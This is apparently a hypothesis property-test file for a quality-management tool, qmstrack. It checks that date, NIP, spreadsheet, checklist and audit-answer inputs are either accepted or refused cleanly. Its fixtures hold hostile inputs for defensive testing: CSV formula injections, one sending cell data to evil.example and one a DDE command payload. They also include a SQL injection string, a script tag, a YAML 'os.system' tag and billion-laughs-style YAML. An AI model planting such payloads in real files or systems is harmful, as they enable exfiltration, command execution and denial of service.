"""Property-based tests (hypothesis) of everything that reads what people type or keep.

Dates, NIPs, spreadsheets (CSV in any encoding, XLSX, corrupted files), checklists and
audit answer files: for arbitrary input, qmstrack either accepts it or refuses it with
one of its own errors (``QmsError``, usually ``InvalidInput``), never another exception;
an import that fails leaves every table and the change log exactly as they were; the CLI
never prints a traceback. Example counts are bounded so the file runs in well under a
minute; each property's count is in its ``@settings``.
"""

from __future__ import annotations

import csv
import io
import sqlite3
import tempfile
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from helpers.procs import new_office_db
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from qmstrack.errors import InvalidInput, QmsError
from qmstrack.parsing import month_names, parse_date, parse_nip

# openpyxl warns about the damaged workbooks this file feeds it on purpose.
pytestmark = pytest.mark.filterwarnings("ignore::UserWarning:openpyxl")

# The autouse environment fixture of conftest is function-scoped; every property builds
# its own files and databases (tempfile / tmp_path_factory), so that is safe here.
BASE = settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                     HealthCheck.too_slow,
                                                     HealthCheck.data_too_large])


def bounded(examples: int) -> settings:
    """No deadline (CI machines vary), a fixed number of examples."""
    return settings(BASE, max_examples=examples)

TODAY = date(2026, 11, 24)


# --- dates --------------------------------------------------------------------------------

DATEISH = st.from_regex(
    r"\A\s{0,2}\d{1,5}[-/. ]{1,2}(\d{1,3}|[A-Za-z]{1,10}\.?)[-/. ]{1,2}\d{1,5}"
    r"([ T]\d{1,2}:\d{2}(:\d{2}(\.\d{1,6})?)?)?\s{0,2}\Z")


@bounded(400)
@given(st.one_of(st.text(max_size=80), DATEISH, st.integers(), st.floats(), st.none(),
                 st.binary(max_size=20)))
@example("٢٠٢٦-١١-٢٣")       # Arabic-Indic digits
@example("0000-01-01")
@example("29/02/2025")
@example("31 Agt 2026")
@example("2026-11-23T25:61")
@example("9" * 5000)
def test_parse_date_accepts_or_refuses_clearly(value):
    try:
        parsed = parse_date(value, field="received date", today=TODAY)
    except InvalidInput as exc:
        assert str(exc) and len(str(exc)) < 300
        return
    assert isinstance(parsed, date)


MONTH_NAMES: dict[int, list[str]] = {}
for _name, _number in month_names().items():
    MONTH_NAMES.setdefault(_number, []).append(_name)


@st.composite
def written_dates(draw) -> tuple[date, str]:
    """A date and one way the office writes it."""
    day = draw(st.dates(min_value=date(1000, 1, 1), max_value=date(9999, 12, 31)))
    y, m, d = f"{day.year:04d}", day.month, day.day
    pad = draw(st.booleans())
    mm, dd = (f"{m:02d}", f"{d:02d}") if pad else (str(m), str(d))
    style = draw(st.sampled_from(["iso", "iso-time", "dmy", "text"]))
    if style == "iso":
        text = f"{y}-{mm}-{dd}"
    elif style == "iso-time":
        clock = draw(st.sampled_from(["08:30", "23:59:59", "00:00:00.123456"]))
        sep = draw(st.sampled_from([" ", "T"]))
        text = f"{y}-{m:02d}-{d:02d}{sep}{clock}"
    elif style == "dmy":
        sep = draw(st.sampled_from(["/", "-", "."]))
        text = f"{dd}{sep}{mm}{sep}{y}"
    else:
        name = draw(st.sampled_from(sorted(MONTH_NAMES[m])))
        name = draw(st.sampled_from([name, name.upper(), name.title(), name + "."]))
        space = draw(st.sampled_from([" ", "  ", "\t"]))
        text = f"{dd}{space}{name}{space}{y}"
    around = draw(st.sampled_from(["", " ", "\n", " \t "]))
    return day, f"{around}{text}{around}"


@bounded(400)
@given(written_dates())
def test_every_supported_date_form_round_trips(case):
    """Within 1900-2100 a date reads back as written; outside, it is refused by its year."""
    day, text = case
    if 1900 <= day.year <= 2100:
        assert parse_date(text) == day
        assert parse_date(day.isoformat()) == day
    else:
        with pytest.raises(InvalidInput, match="outside the years 1900-2100"):
            parse_date(text)


# --- NIP ------------------------------------------------------------------------------------


@bounded(300)
@given(st.one_of(st.text(max_size=40), st.from_regex(r"\A[0-9 .\-]{14,26}\Z"),
                 st.integers(min_value=-10 ** 19, max_value=10 ** 19), st.floats(),
                 st.none()))
@example("19860926 201505 1 001")
@example("1986092620150510０1")   # a full-width digit
@example("19860230 201505 1 001")
@example(198609262015051001.0)
def test_nip_is_a_nip_or_a_clear_refusal(value):
    try:
        nip = parse_nip(value)
    except InvalidInput as exc:
        assert str(exc).startswith("The NIP")
        return
    assert len(nip.value) == 18 and nip.value.isascii() and nip.value.isdigit()
    assert parse_nip(nip.formatted()) == nip


@st.composite
def nips(draw) -> tuple[str, date, tuple[int, int], int, int]:
    birth = draw(st.dates(min_value=date(1940, 1, 1), max_value=date(2005, 12, 31)))
    year = draw(st.integers(birth.year + 18, date.today().year + 1))
    month = draw(st.integers(1, 12))
    assume((year, month) >= (birth.year + 18, birth.month))
    sex = draw(st.sampled_from([1, 2]))
    serial = draw(st.integers(1, 999))
    digits = f"{birth:%Y%m%d}{year:04d}{month:02d}{sex}{serial:03d}"
    return digits, birth, (year, month), sex, serial


@bounded(300)
@given(nips(), st.sampled_from([" ", "  ", ".", "-", "", " - "]),
       st.sampled_from(["", " ", "\t"]))
def test_valid_nips_round_trip_however_they_are_spaced(case, sep, around):
    digits, birth, appointed, sex, serial = case
    spaced = sep.join([digits[:8], digits[8:14], digits[14], digits[15:]])
    nip = parse_nip(f"{around}{spaced}{around}")
    assert nip.value == digits
    assert (nip.birth_date, nip.appointed, nip.sex, nip.serial) == (birth, appointed, sex,
                                                                    serial)
    assert nip.formatted() == f"{digits[:8]} {digits[8:14]} {digits[14]} {digits[15:]}"
    assert parse_nip(nip.formatted()) == nip == parse_nip(int(digits))


# --- spreadsheet imports --------------------------------------------------------------------

COUNTED = ("requests", "request_events", "staff", "change_log", "change_seals")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+62 812 3456",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "a\x00b",
    "<script>alert(1)</script>",
    "Ani\u202eLestari",
    "'; DROP TABLE requests; --",
    "\ufeffR-1",
    "",
    " ",
]
PLAUSIBLE = [
    "SMA-LEG", "SMP-LEG", "NOPE", "SMA", "SMP", "2026-03-02", "02/03/2026", "2 Maret 2026",
    "31/02/2026", "5 Agt 2026", "selesai", "diproses", "diterima", "ditolak", "done", "1",
    "4", "5", "0", "198609262015051001", "19860926 201505 1 001", "199001012019032002",
    "R-1", "R-2", "SMA/2026/001", "walk-in", "Ani Lestari",
]
HEADERS = [
    "ref_no", "No. Registrasi", "received_on", "Tgl Masuk", "service_code", "Kode Layanan",
    "requester", "Nama Pemohon", "status", "Tanggal Selesai", "rating", "petugas",
    "keterangan", "kontak", "kanal", "bidang", "No", "", "ref no", "Ref_No",
]
REQUIRED = ["No. Registrasi", "Tgl Masuk", "Kode Layanan", "Nama Pemohon"]


def huge(char: str, n: int) -> str:
    return char * n


CELL = st.one_of(
    st.sampled_from(PLAUSIBLE),
    st.sampled_from(HOSTILE),
    st.text(max_size=25),
    st.builds(huge, st.sampled_from(["x", "é", ";", '"', "\n"]),
              st.sampled_from([10_001, 150_000, 1_100_000])),
)


@st.composite
def tables(draw) -> list[list[str]]:
    if draw(st.booleans()):
        # Mostly valid rows (new or already imported), with hostile names and notes.
        rows = [["No. Registrasi", "Tgl Masuk", "Kode Layanan", "Nama Pemohon", "keterangan"]]
        for _ in range(draw(st.integers(1, 6))):
            rows.append([f"V-{draw(st.integers(1, 40))}",
                         draw(st.sampled_from(["2026-03-02", "02/03/2026", "2 Maret 2026",
                                               "3 Agt 2026"])),
                         draw(st.sampled_from(["SMA-LEG", "SMP-LEG"])),
                         draw(st.sampled_from(["Ani Lestari", "Bõdi Ñ", *HOSTILE[:5]])),
                         draw(CELL)])
        return rows
    header = draw(st.one_of(
        st.lists(st.sampled_from(HEADERS), min_size=0, max_size=8),
        st.builds(lambda extra: REQUIRED + extra,
                  st.lists(st.sampled_from(HEADERS), max_size=4)),
    ))
    width = len(header)
    rows = draw(st.lists(st.lists(CELL, min_size=0, max_size=width + 2), max_size=6))
    return [header, *rows]


def encode_table(table: list[list[str]], delimiter: str, newline: str, quoting: bool,
                 encoding: str, bom: bool) -> bytes:
    if quoting:
        buffer = io.StringIO()
        csv.writer(buffer, delimiter=delimiter, lineterminator=newline).writerows(table)
        text = buffer.getvalue()
    else:
        text = newline.join(delimiter.join(row) for row in table) + newline
    data = text.encode(encoding, errors="replace")
    if bom and encoding in ("utf-8",):
        data = b"\xef\xbb\xbf" + data
    return data


CSV_FILES = st.builds(
    encode_table, tables(), st.sampled_from([",", ";", "\t"]),
    st.sampled_from(["\n", "\r\n", "\r"]), st.booleans(),
    st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "latin-1", "cp1252"]), st.booleans())


@pytest.fixture(scope="module")
def import_db(tmp_path_factory):
    """One office database for every example of a property (refusals must leave it
    exactly as it was; accepted files simply add to it)."""
    from qmstrack.db import open_db

    path = new_office_db(tmp_path_factory.mktemp("prop-import") / "qms.db")
    db = open_db(path)
    yield db, path
    from qmstrack.integrity import check_database

    report = check_database(db, path)
    db.close()
    assert report.ok, report.problems[:3]


def snapshot(db) -> dict[str, int]:
    return {t: db.execute(f"SELECT count(*) FROM [{t}]").fetchone()[0] for t in COUNTED}


def import_or_refuse(db, path: Path, importer=None, **options):
    """Import; on refusal, nothing may have changed. Returns the report or the error."""
    from qmstrack.registers.requests import import_requests

    importer = importer or import_requests
    before = snapshot(db)
    try:
        report = importer(db, path, **options)
    except QmsError as exc:
        assert str(exc)
        assert snapshot(db) == before, "a refused import changed the database"
        assert not db.conn.in_transaction
        return exc
    after = snapshot(db)
    assert not db.conn.in_transaction
    if importer is import_requests:
        assert after["requests"] == before["requests"] + report.inserted
    if report.inserted + report.updated == 0:
        assert after == before
    else:
        assert after["change_seals"] == before["change_seals"] + 1
    return report


def write_temp(data: bytes, suffix: str) -> Path:
    handle = tempfile.NamedTemporaryFile(delete=False, suffix=suffix, prefix="prop-")
    with handle:
        handle.write(data)
    return Path(handle.name)


STATS: dict[str, dict[str, int]] = {}


def tally(name: str, outcome) -> None:
    kind = type(outcome).__name__
    STATS.setdefault(name, {}).setdefault(kind, 0)
    STATS[name][kind] += 1


@bounded(150)
@given(st.one_of(st.binary(max_size=3000),
                 st.builds(lambda b: b"PK\x03\x04" + b, st.binary(max_size=500)),
                 st.builds(lambda b: b"\xef\xbb\xbfNo;Tgl Masuk\r\n" + b,
                           st.binary(max_size=500))),
       st.sampled_from([".csv", ".txt", ".xlsx", ".xls"]))
def test_arbitrary_bytes_never_break_an_import(import_db, data, suffix):
    db, _ = import_db
    path = write_temp(data, suffix)
    try:
        tally("bytes", import_or_refuse(db, path))
    finally:
        path.unlink()


@bounded(200)
@given(CSV_FILES, st.booleans())
@example(encode_table([REQUIRED, ["R-9", "2026-03-02", "SMA-LEG",
                                  '=HYPERLINK("http://evil","x")']], ",", "\n", True,
                      "utf-8", True), False)
@example(encode_table([REQUIRED, ["R-9", "2026-03-02", "SMA-LEG", "Ani"]], ";", "\r\n",
                      True, "utf-16", False), False)
@example(encode_table([REQUIRED, ["R-8", "2 Agustus 2026", "SMA-LEG", "Bõdi Ñ"]], ";",
                      "\r\n", True, "latin-1", False), True)
def test_any_spreadsheet_text_is_imported_whole_or_refused_whole(import_db, data, skip):
    db, _ = import_db
    path = write_temp(data, ".csv")
    rejects = path.with_name(path.name + ".rejects.csv")
    try:
        outcome = import_or_refuse(db, path, skip_invalid=skip, rejects_path=rejects)
        tally("csv", outcome)
        if isinstance(outcome, QmsError) or not skip or not outcome.rejected:
            assert not rejects.exists(), "a rejects file was left by a failed import"
        else:
            assert rejects.exists()
            # Every cell of the rejects file is harmless in a spreadsheet.
            for row in csv.reader(io.StringIO(rejects.read_bytes().decode("utf-8-sig"))):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    finally:
        path.unlink()
        rejects.unlink(missing_ok=True)


XLSX_CELL = st.one_of(
    st.sampled_from(PLAUSIBLE + ['=HYPERLINK("http://evil","x")', "=1/0", "=A1+1"]),
    st.text(max_size=20),
    st.integers(min_value=-10 ** 20, max_value=10 ** 20),
    st.floats(allow_nan=False, allow_infinity=False),
    st.dates(min_value=date(1900, 3, 1), max_value=date(9999, 12, 31)),
    st.datetimes(min_value=datetime(1900, 3, 1), max_value=datetime(9999, 12, 31)),
    st.booleans(),
    st.none(),
)


def xlsx_bytes(table: list[list]) -> bytes:
    import openpyxl
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = openpyxl.Workbook()
    sheet = book.active
    for row in table:
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v
                      for v in row])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@bounded(40)
@given(st.one_of(st.lists(st.sampled_from(HEADERS), max_size=6),
                 st.just(REQUIRED + ["status", "Tanggal Selesai", "rating", "petugas"])),
       st.lists(st.lists(XLSX_CELL, max_size=9), max_size=5))
def test_any_workbook_is_imported_whole_or_refused_whole(import_db, header, rows):
    db, _ = import_db
    path = write_temp(xlsx_bytes([header, *rows]), ".xlsx")
    try:
        tally("xlsx", import_or_refuse(db, path))
    finally:
        path.unlink()


_GOOD: list[bytes] = []


def _good_workbook() -> bytes:
    """One valid workbook, made once (openpyxl stamps the time into every new file)."""
    if not _GOOD:
        _GOOD.append(xlsx_bytes([REQUIRED, ["X-1", "2026-03-02", "SMA-LEG", "Ani"],
                                 ["X-2", date(2026, 3, 3), "SMA-LEG", "Budi"]]))
    return _GOOD[0]


@st.composite
def damaged_workbooks(draw) -> bytes:
    """A real workbook with one part replaced, truncated, or with bytes flipped."""
    good = _good_workbook()
    how = draw(st.sampled_from(["member", "truncate", "flip"]))
    if how == "truncate":
        return good[: draw(st.integers(4, len(good) - 1))]
    if how == "flip":
        data = bytearray(good)
        for _ in range(draw(st.integers(1, 8))):
            position = draw(st.integers(4, len(data) - 1))
            data[position] = draw(st.integers(0, 255))
        return bytes(data)
    source = zipfile.ZipFile(io.BytesIO(good))
    names = source.namelist()
    victim = draw(st.sampled_from(names))
    content = draw(st.one_of(
        st.binary(max_size=200),
        st.sampled_from([b"", b"<not xml", b"<?xml version='1.0'?><worksheet/>",
                         b"<!DOCTYPE x [<!ENTITY a 'aaaa'>]><x>&a;&a;</x>"]),
        st.builds(lambda text: text.encode(), st.text(max_size=100)),
    ))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name in names:
            target.writestr(name, content if name == victim else source.read(name))
    return out.getvalue()


@bounded(80)
@given(damaged_workbooks())
def test_damaged_workbooks_are_refused_clearly(import_db, data):
    db, _ = import_db
    path = write_temp(data, ".xlsx")
    try:
        tally("damaged-xlsx", import_or_refuse(db, path))
    finally:
        path.unlink()


@pytest.fixture(scope="module")
def office_file(tmp_path_factory) -> bytes:
    """The bytes of a fresh office database, copied for every CLI example."""
    return new_office_db(tmp_path_factory.mktemp("prop-cli") / "qms.db").read_bytes()


@bounded(30)
@given(st.one_of(CSV_FILES, st.binary(max_size=400), damaged_workbooks()),
       st.sampled_from(["request", "staff", "adherence", "survey", "complaint", "rule"]),
       st.sampled_from([(), ("--skip-invalid",), ("--dry-run",), ("--json",)]))
def test_import_commands_never_print_a_traceback(office_file, data, register, options):
    from qmstrack.cli.app import app

    with tempfile.TemporaryDirectory(prefix="prop-cli-") as tmp:
        db_path = Path(tmp) / "qms.db"
        db_path.write_bytes(office_file)
        path = Path(tmp) / ("data.xlsx" if data[:2] == b"PK" else "data.csv")
        path.write_bytes(data)
        result = CliRunner().invoke(app, ["--db", str(db_path), register, "import",
                                          str(path), *options])
        assert result.exception is None or isinstance(result.exception, SystemExit), (
            repr(result.exception))
        assert result.exit_code in (0, 1), result.output
        assert "Traceback" not in result.output
        if result.exit_code == 1:
            assert "Error: " in result.output
        tally("cli", result.exit_code)


# --- checklists --------------------------------------------------------------------------


def _bundled_text() -> str:
    from qmstrack.checklists import bundled_dir

    return (bundled_dir() / "iso9001-2015.yaml").read_text("utf-8")


@st.composite
def mutated_checklists(draw) -> bytes:
    """The bundled ISO 9001:2015 checklist with a few lines deleted, doubled, swapped or
    edited: mostly valid YAML that breaks the checklist format in some way."""
    lines = _bundled_text().splitlines(keepends=True)
    # Its first top-level clauses (cut where a clause starts, so the rest stays valid).
    starts = [i for i, line in enumerate(lines) if line.startswith("  - ref:") and i >= 120]
    lines = lines[: starts[0]] if starts else lines
    for _ in range(draw(st.integers(1, 4))):
        i = draw(st.integers(0, len(lines) - 1))
        action = draw(st.sampled_from(["delete", "double", "swap", "edit", "indent"]))
        if action == "delete":
            del lines[i]
        elif action == "double":
            lines.insert(i, lines[i])
        elif action == "swap":
            j = draw(st.integers(0, len(lines) - 1))
            lines[i], lines[j] = lines[j], lines[i]
        elif action == "indent":
            lines[i] = draw(st.sampled_from(["  ", "\t", ""])) + lines[i].lstrip(" ")
        else:
            line = lines[i]
            k = draw(st.integers(0, max(0, len(line) - 1)))
            insert = draw(st.one_of(
                st.sampled_from([": ", "- ", "[", "{", "&a ", "*a", "!!python/object:os.system",
                                 "!!binary ", "~", "null", "0x1F", "1e9", "\x00", "\ufeff",
                                 "'", '"', "#", "|", ">", "? "]),
                st.text(max_size=6)))
            lines[i] = line[:k] + insert + line[k + 1:]
        if not lines:
            break
    return "".join(lines).encode("utf-8", errors="surrogatepass")


@bounded(150)
@given(st.one_of(mutated_checklists(), st.binary(max_size=300),
                 st.builds(lambda n: (b"clauses: " + b"[" * n + b"]" * n),
                           st.integers(1, 5000)),
                 st.builds(lambda n: b"a: &a [x]\n" + b"".join(
                     b"b%d: &b%d [*%s, *%s]\n" % (i, i, b"a" if i == 0 else b"b%d" % (i - 1),
                                                 b"a" if i == 0 else b"b%d" % (i - 1))
                     for i in range(n)), st.integers(1, 30))))
def test_checklist_files_load_or_are_refused_with_their_line(data):
    from qmstrack.checklists import Checklist, load_checklist_bytes

    try:
        checklist = load_checklist_bytes(data, "mutated.yaml")
    except InvalidInput as exc:
        assert "mutated.yaml" in str(exc) + "".join(exc.details)
        tally("checklist", exc)
        return
    assert isinstance(checklist, Checklist)
    assert list(checklist.iter_items())
    tally("checklist", checklist)


# --- audit answers ----------------------------------------------------------------------

ANSWERS_CHECKLIST = """\
id: props
title: Property checklist
standard: ISO 9001
edition: "2015"
version: 1
languages: [en]
clauses:
  - ref: "7.5"
    title: Documented information
    items:
      - id: 7.5-a
        question: Are the SOPs reviewed on time?
      - id: 7.5-b
        question: Are records kept?
  - ref: "8.5.1"
    title: Control of service provision
    items:
      - id: 8.5.1-a
        question: Are requests completed on time?
        answer: metric
        metric: requests.on_time_rate
        target: ">= 0.9"
"""
ITEM_IDS = ["7.5-a", "7.5-b", "8.5.1-a", "9.9-z", "", "7.5-A"]
GRADES = ["conform", "minor", "major", "observation", "na", "pending", "sesuai", "ok",
          "Minor", " major ", "", "?"]

ANSWER_VALUE = st.recursive(
    st.one_of(st.sampled_from(GRADES), st.text(max_size=15), st.integers(), st.none(),
              st.booleans()),
    lambda inner: st.one_of(
        st.dictionaries(st.sampled_from(["grade", "note", "evidence", "by", 1]), inner,
                        max_size=4),
        st.lists(inner, max_size=3)),
    max_leaves=8)


@st.composite
def answer_files(draw) -> tuple[str, str]:
    import yaml

    kind = draw(st.sampled_from(["valid", "yaml", "csv", "text", "deep"]))
    if kind == "valid":
        mapping = draw(st.dictionaries(
            st.sampled_from(["7.5-a", "7.5-b"]),
            st.one_of(st.sampled_from(["conform", "na", "observation", "sesuai"]),
                      st.fixed_dictionaries({"grade": st.sampled_from(["minor", "major"]),
                                             "note": st.text(min_size=1, max_size=30)},
                                            optional={"evidence": st.text(max_size=30)})),
            min_size=1))
        return yaml.safe_dump(mapping, allow_unicode=True), ".yaml"
    if kind == "yaml":
        mapping = draw(st.dictionaries(st.sampled_from(ITEM_IDS), ANSWER_VALUE, max_size=4))
        return yaml.safe_dump(mapping, allow_unicode=True), ".yaml"
    if kind == "csv":
        header = draw(st.lists(st.sampled_from(["item", "grade", "note", "evidence", "butir",
                                                "nilai", "catatan", "x"]), max_size=5))
        rows = draw(st.lists(st.lists(st.one_of(st.sampled_from(ITEM_IDS + GRADES),
                                                st.text(max_size=10)), max_size=5),
                             max_size=4))
        buffer = io.StringIO()
        csv.writer(buffer, delimiter=draw(st.sampled_from([",", ";"]))).writerows(
            [header, *rows])
        return buffer.getvalue(), ".csv"
    if kind == "deep":
        n = draw(st.integers(1, 800))
        return "7.5-a: " + "[" * n + "]" * n, draw(st.sampled_from([".yaml", ".yml"]))
    return draw(st.text(max_size=200)), draw(st.sampled_from([".yaml", ".csv", ".txt"]))


@bounded(150)
@given(answer_files())
@example(("7.5-a: " + "[" * 1000 + "]" * 1000, ".yaml"))
@example(("item,grade\n7.5-a," + "x" * 1_200_000 + "\n", ".csv"))
@example(("item,grade\n7.5-a,conform\n7.5-b,minor\n", ".csv"))
@example(("7.5-a: {grade: minor, note: SOP not reviewed}\n", ".yaml"))
def test_answers_files_give_answers_or_a_clear_refusal(case):
    from qmstrack.audits import Answer, load_answers
    from qmstrack.checklists import load_checklist_text

    text, suffix = case
    checklist = load_checklist_text(ANSWERS_CHECKLIST, "props.yaml")
    path = write_temp(text.encode("utf-8", errors="surrogatepass"), suffix)
    try:
        try:
            answers = load_answers(path, checklist)
        except InvalidInput as exc:
            assert str(exc)
            tally("answers", exc)
            return
        assert isinstance(answers, dict)
        assert set(answers) <= {"7.5-a", "7.5-b"}
        assert all(isinstance(a, Answer) for a in answers.values())
        tally("answers", answers)
    finally:
        path.unlink()


def test_zz_report_how_often_each_property_ran():
    """Prints the outcomes per property (run with -s to see them)."""
    for name, kinds in sorted(STATS.items()):
        print(f"{name}: {sum(kinds.values())} examples, {kinds}")


def test_a_refused_import_leaves_no_transaction_open(tmp_path):
    """A refused import closes its transaction: the next writer starts cleanly."""
    from qmstrack.db import open_db
    from qmstrack.registers.requests import import_requests

    path = new_office_db(tmp_path / "qms.db")
    db = open_db(path)
    try:
        bad = tmp_path / "bad.csv"
        bad.write_text("No. Registrasi,Tgl Masuk,Kode Layanan,Nama Pemohon\n"
                       "R-1,2026-03-02,SMA-LEG,Ani\nR-2,31/02/2026,SMA-LEG,Budi\n")
        with pytest.raises(QmsError):
            import_requests(db, bad)
        other = sqlite3.connect(path, timeout=0)
        other.execute("BEGIN IMMEDIATE")
        other.execute("ROLLBACK")
        other.close()
        assert db.execute("SELECT count(*) FROM requests").fetchone()[0] == 0
    finally:
        db.close()
